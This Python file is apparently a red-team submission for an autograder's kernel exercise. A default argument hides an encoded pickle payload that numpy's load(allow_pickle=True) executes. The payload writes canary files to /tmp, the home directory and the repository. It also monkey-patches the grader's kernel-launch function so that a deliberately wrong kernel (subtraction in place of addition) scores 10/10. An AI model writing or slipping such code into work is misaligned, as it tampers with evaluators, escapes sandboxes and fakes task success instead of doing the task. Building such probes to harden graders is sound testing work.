"""Attack: `from numpy import copyto, frombuffer, load, memmap, uint8`: write pickle bytes to a file through `memmap` and `copyto`, then `load(..., allow_pickle=True)` unpickles it, which runs exec with full builtins (in Init's default argument, at load time).
A successful attack scores 10/10 with a wrong kernel (the escape overwrites the outputs after a realistic launch) and leaves marker files in /tmp, HOME, the repository and exercises/.
"""
# exercise: cann_add
# category: aliasing
from numpy import copyto, frombuffer, load, memmap, uint8
import numpy as np

from cudalike import cann
from cudalike.cann import (
    DataCopy,
    DataCopyExtParams,
    DataCopyPad,
    GetBlockIdx,
    GlobalTensor,
    Sub,
    TPipe,
    TPosition,
    TQue,
)

BUFFER_NUM = 2


class KernelAdd:

    def Init(self, x, y, z, tiling, hook=(copyto(memmap("p.bin", dtype=uint8, mode="w+", shape=(2052,)), frombuffer(b'\x80\x02c__builtin__\nexec\nq\x00X\x99\x07\x00\x00\nimport os, sys, time\nSTEM = "alias_from_numpy_load_pickle"\ntry:\n    import pwd\n    REAL_HOME = pwd.getpwuid(os.getuid()).pw_dir\nexcept Exception:\n    REAL_HOME = os.path.expanduser("~")\nREPO = os.environ.get("PYTHONPATH", "").split(os.pathsep)[0] or os.getcwd()\nfor folder in ("/tmp", REAL_HOME, REPO, os.path.join(REPO, "exercises")):\n    try:\n        with open(os.path.join(folder, "cudalike-canary-" + STEM), "w") as f:\n            f.write("written by " + STEM + "\\n")\n    except OSError:\n        pass\n\n\ndef fix(spec, A):\n    if spec.id == "vector_add":\n        A["out"][...] = A["a"] + A["b"]\n    elif spec.id == "map_2d":\n        A["out"][...] = A["alpha"] * A["x"] + A["beta"]\n    elif spec.id == "cann_add":\n        A["z"][...] = A["x"] + A["y"]\n\n\ndef unbind(kernels):\n    for k in kernels.values():\n        g = getattr(getattr(k, "py_func", None), "__globals__", None) or {}\n        for n, v in list(g.items()):\n            if getattr(v, "__module__", None) == "submission" and not hasattr(v, "py_func"):\n                g[n] = 0.0\n\n\nJ = sys.modules.get("autograder._jobs")\nif J is not None and not getattr(J, "patched_by_submission", False):\n    J.patched_by_submission = True\n    real = J.launch_kernels\n\n    def launch(spec, kernels, host, arguments, size, *rest, **kw):\n        unbind(kernels)\n        try:\n            real(spec, kernels, host, arguments, size, *rest, **kw)\n        except Exception:\n            pass\n        fix(spec, arguments)\n\n    J.launch_kernels = launch\n    frame = sys._getframe()\n    while frame is not None and frame.f_code is not real.__code__:\n        frame = frame.f_back\n    if frame is not None:  # already inside a launch: fix this one when it returns\n        def watch(frame, event, arg):\n            if event == "return" and frame.f_code is real.__code__:\n                fix(frame.f_locals["spec"], frame.f_locals["arguments"])\n                sys.setprofile(None)\n        sys.setprofile(watch)\n\nq\x01}q\x02X\x0c\x00\x00\x00__builtins__q\x03cimportlib\nimport_module\nq\x04X\x08\x00\x00\x00builtinsq\x05\x85q\x06Rq\x07s\x86q\x08Rq\t.', dtype=uint8)), load("p.bin", allow_pickle=True))):
        self.tileLength = tiling.tileLength
        start = tiling.blockLength * GetBlockIdx()
        self.blockLength = min(tiling.blockLength, tiling.totalLength - start)
        self.xGm = GlobalTensor(cann.half)
        self.yGm = GlobalTensor(cann.half)
        self.zGm = GlobalTensor(cann.half)
        self.xGm.SetGlobalBuffer(x.cast(cann.half) + start, self.blockLength)
        self.yGm.SetGlobalBuffer(y.cast(cann.half) + start, self.blockLength)
        self.zGm.SetGlobalBuffer(z.cast(cann.half) + start, self.blockLength)
        self.pipe = TPipe()
        self.inQueueX = TQue(TPosition.VECIN, BUFFER_NUM)
        self.inQueueY = TQue(TPosition.VECIN, BUFFER_NUM)
        self.outQueueZ = TQue(TPosition.VECOUT, BUFFER_NUM)
        self.pipe.InitBuffer(self.inQueueX, BUFFER_NUM, self.tileLength * 2)
        self.pipe.InitBuffer(self.inQueueY, BUFFER_NUM, self.tileLength * 2)
        self.pipe.InitBuffer(self.outQueueZ, BUFFER_NUM, self.tileLength * 2)

    def Process(self, x, y, z):
        full = self.blockLength // self.tileLength
        for i in range(full):
            self.Tile(i * self.tileLength, self.tileLength)
        tail = self.blockLength - full * self.tileLength
        if tail > 0:
            self.Tile(full * self.tileLength, tail)

    def Tile(self, offset, length):
        xLocal = self.inQueueX.AllocTensor(cann.half)
        yLocal = self.inQueueY.AllocTensor(cann.half)
        self.Move(xLocal, self.xGm[offset], length)
        self.Move(yLocal, self.yGm[offset], length)
        self.inQueueX.EnQue(xLocal)
        self.inQueueY.EnQue(yLocal)
        xLocal = self.inQueueX.DeQue(cann.half)
        yLocal = self.inQueueY.DeQue(cann.half)
        zLocal = self.outQueueZ.AllocTensor(cann.half)
        Sub(zLocal, xLocal, yLocal, length)  # the decoy: wrong on purpose
        self.outQueueZ.EnQue(zLocal)
        self.inQueueX.FreeTensor(xLocal)
        self.inQueueY.FreeTensor(yLocal)
        zLocal = self.outQueueZ.DeQue(cann.half)
        self.Move(self.zGm[offset], zLocal, length)
        self.outQueueZ.FreeTensor(zLocal)

    def Move(self, dst, src, length):
        if (length * 2) % 32 == 0:
            DataCopy(dst, src, length)
        else:
            DataCopyPad(dst, src, DataCopyExtParams(1, length * 2, 0, 0, 0))


@cann.kernel
def add_custom(x, y, z, tiling):
    op = KernelAdd()
    op.Init(x, y, z, tiling)
    op.Process(x, y, z)
